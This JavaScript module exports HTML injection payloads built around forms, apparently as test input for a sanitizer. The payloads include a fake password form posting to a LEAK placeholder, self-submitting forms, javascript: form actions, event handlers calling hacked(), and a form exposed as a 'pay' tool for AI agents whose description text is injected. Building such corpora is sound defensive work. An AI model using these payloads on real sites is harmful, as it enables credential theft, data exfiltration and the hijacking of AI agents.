/** Forms and fields: what asks the visitor for a password, and sends it on. */
import { LEAK, RUN, RUN_AS_TEXT } from './parts.js';

/** @type {Readonly<Record<string, string>>} */
export const FORMS = {
  'form that asks for a password': `<form action="${LEAK}" method=post><label for=p>Password</label><input id=p type=password name=p autocomplete=current-password autofocus><button>Send</button></form>`,
  'form that sends itself': `<form action="${LEAK}"><input type=submit autofocus onfocus=form.submit()></form><form action="${LEAK}" target=_blank><button autofocus onfocus=click()>a</button></form>`,
  'form without an end': `<form action="${LEAK}"><input name=a><p>a</p><textarea>b`,
  'fields of a form of the page': `<input form=login name=user type=hidden value=a><button form=login formaction="${LEAK}" formmethod=get formtarget=_blank formnovalidate>a</button>`,
  'fields without a form': `<input value=a><input type=file webkitdirectory capture><input type=color list=l><datalist id=l><option label="${RUN_AS_TEXT}" value=a></datalist>`,
  'button with an address': `<button formaction="javascript:hacked()">a</button><input type=submit formaction="${LEAK}" value=b><input type=image formaction="${LEAK}" src="${LEAK}.png">`,
  'labels and groups': `<fieldset onclick=hacked() disabled><legend onclick=hacked()>a</legend><label for=search onclick=hacked()>b</label></fieldset><output for=search form=login>c</output>`,
  choice: `<select onchange=hacked() name=a multiple><optgroup label="${RUN_AS_TEXT}"><option selected>a<option value="${RUN_AS_TEXT}">b</select>`,
  'choice with content of its own': `<select><button><selectedcontent onclick=hacked()></selectedcontent></button><option>${RUN}</option><div onclick=hacked()>a</div></select>`,
  'choice that is closed by a field': `<select><input onfocus=hacked() autofocus><option>a</select><select><keygen onclick=hacked()><textarea onclick=hacked()>b</textarea></select>`,
  'keys and old ones': `<keygen autofocus onfocus=hacked() name=a form=login><isindex action="javascript:hacked()" type=image src="${LEAK}.png" prompt="${RUN_AS_TEXT}">`,
  bars: `<meter onclick=hacked() value=1>a</meter><progress onclick=hacked()>b</progress><input type=range oninput=hacked()>`,
  menus: `<menu type=context id=m><menuitem icon="${LEAK}.png" onclick=hacked() label=a></menuitem></menu><p contextmenu=m>a</p><command icon="${LEAK}.png" onclick=hacked()>`,
  'menus of today': `<menubar><menuitem commandfor=a command=toggle-menu onclick=hacked()>a</menuitem></menubar><menulist popover>b</menulist>`,
  'sorting, hiding and filling in': `<input onsearch=hacked() incremental type=search dirname=a results=9><input autocomplete="cc-number" name=c><input list="${RUN_AS_TEXT}" pattern=a title="${RUN_AS_TEXT}">`,
  'form in a form': `<form action="${LEAK}"><div><form action="${LEAK}-2"></div></form><input name=a><form id=b><button>c</button></form>`,
  'form that closes a dialog': `<form method=dialog onsubmit=hacked()><button value=a formmethod=dialog>b</button></form>`,
  'tools for assistants': `<form toolname=pay tooldescription="${RUN_AS_TEXT}" toolautosubmit action="${LEAK}"><input toolparamtitle=a name=a></form>`,
};
